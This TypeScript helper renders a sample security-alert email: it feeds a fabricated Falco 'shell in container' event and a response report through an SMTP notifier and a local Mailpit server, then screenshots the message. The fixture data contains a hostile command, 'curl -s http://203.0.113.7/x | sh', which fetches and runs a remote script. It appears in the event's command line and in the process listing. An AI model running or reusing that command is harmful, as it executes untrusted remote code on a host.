import { setTimeout as sleep } from 'node:timers/promises'
import { smtp } from '@talon/notifier-smtp'
import type { Logger, Report } from '@talon/plugin'
import { falcoEvent } from '@talon/testing'
import { startMailpit } from '../counterparts/mailpit.ts'
import { screenshot, type ScreenshotOptions } from './browser.ts'

const log: Logger = { debug() {}, info() {}, warn() {}, error() {} }

const event = falcoEvent({
  rule: 'Terminal shell in container',
  priority: 'Warning',
  output: 'A shell was spawned in a container with an attached terminal | evt_type=execve user=root process=sh',
  hostname: 'worker-1',
  tags: ['container', 'maturity_stable', 'mitre_execution', 'shell', 'T1059'],
  time: '2026-11-24T09:41:07.204881935Z',
  fields: {
    'container.id': '4f1d2c8a9b07',
    'container.image.repository': 'registry.example.org/shop/web',
    'k8s.ns.name': 'shop',
    'k8s.pod.name': 'web-6d4cf56db6-x8x2k',
    'proc.cmdline': 'sh -c "curl -s http://203.0.113.7/x | sh"',
    'proc.pname': 'node',
    'user.name': 'root',
  },
})

const report: Report = {
  id: 'a-picture',
  stage: 'action',
  status: 'success',
  message: 'the script ended with exit code 0',
  output:
    'PID   USER     COMMAND\n    1 root     node server.js\n   41 root     sh -c curl -s http://203.0.113.7/x | sh\n   43 root     <defunct>',
  rule: 'Shell in a shop',
  action: 'See what runs',
  actionner: 'kubernetes:exec',
  dryRun: false,
  objects: { pod: 'web-6d4cf56db6-x8x2k', namespace: 'shop' },
  time: '2026-11-24T09:41:07.391Z',
  duration: 148,
  event,
  traceId: event.traceId,
}

/** The mail of one result, as a mail server got it. */
export async function mail(file: string, options: ScreenshotOptions = {}): Promise<void> {
  const server = await startMailpit()
  const mailer = await smtp.uses.mailer.open({}, { log })
  try {
    const parameters = smtp.parameters.parse({ host_port: `${server.host}:${server.port}`, to: 'oncall@example.org' })
    await smtp.run({ reports: [report], parameters, log, signal: AbortSignal.timeout(10_000) }, { mailer })
    let [got] = await server.mails()
    for (; !got; [got] = await server.mails()) await sleep(20)
    await screenshot(got.html, file, options)
  } finally {
    mailer.close()
    await server.close()
  }
}
